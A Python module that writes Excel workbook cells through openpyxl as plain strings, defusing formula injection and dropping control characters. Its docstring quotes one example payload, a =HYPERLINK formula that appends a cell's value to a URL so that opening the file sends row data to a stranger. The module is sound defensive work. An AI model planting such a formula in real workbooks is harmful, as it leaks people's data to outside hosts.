"""Writing cells of the app's Excel workbooks safely (docs/workbook.md, "Text cells").

Every workbook the app writes (exports, the import template, lists made by
jobs) fills its rows through `append_row` (the report tables, which merge and
place their cells, through `text` in reports/tables.py), which makes every text
cell a plain string and removes what a workbook cannot hold:

- text starting with ``=`` (or ``+``, ``-``, ``@``) would otherwise be written
  as a live formula: a name typed as ``=HYPERLINK("http://…?"&A1, "x")`` sends
  the row to a stranger when the file is opened, and the file no longer
  imports. A cell of type "s" is shown as typed and read back as typed;
- a control character stored before the input refused them
  (hungbinh/text_input.py) makes openpyxl raise IllegalCharacterError and
  stopped the whole export; it is dropped from the cell.
"""

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from households.text import without_control_characters

# The content type of every .xlsx file the app sends (exports, the import template, report tables, jobs' files).
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def text(value: str) -> str:
    return without_control_characters(value)


def text_cell(sheet: WriteOnlyWorksheet, value: str, **style) -> Cell:
    """A string cell of a write-only sheet, never a formula; `style`: font, alignment, number_format…"""
    cell = WriteOnlyCell(sheet, value=text(value))
    cell.data_type = "s"
    for name, setting in style.items():
        setattr(cell, name, setting)
    return cell


def _as_string(cell) -> None:
    if isinstance(cell.value, str):
        cell.value = text(cell.value)
        cell.data_type = "s"


def append_row(sheet, values) -> None:
    """Append a row to a sheet (write-only or not); every str value becomes a string cell.

    Values may be cells already made (WriteOnlyCell, with a style): a text one is turned into a string too.
    """
    if isinstance(sheet, WriteOnlyWorksheet):
        row = []
        for value in values:
            if isinstance(value, str):
                # openpyxl writes a plain str as a string cell unless it starts with "=": only such text needs a
                # cell object of its own (one per value made whole exports about half as fast as bare openpyxl).
                value = text(value)
                if value.startswith("="):
                    value = text_cell(sheet, value)
            elif isinstance(value, Cell):
                _as_string(value)
            row.append(value)
        sheet.append(row)
        return
    values = [text(value) if isinstance(value, str) else value for value in values]
    sheet.append(values)
    # The row append() just wrote. Not sheet[sheet.max_row]: max_row and max_column scan every cell of the
    # sheet, so a row at a time made a 5,000-household workbook quadratic (minutes in the request).
    row = sheet._current_row
    for column in range(1, len(values) + 1):
        _as_string(sheet.cell(row=row, column=column))
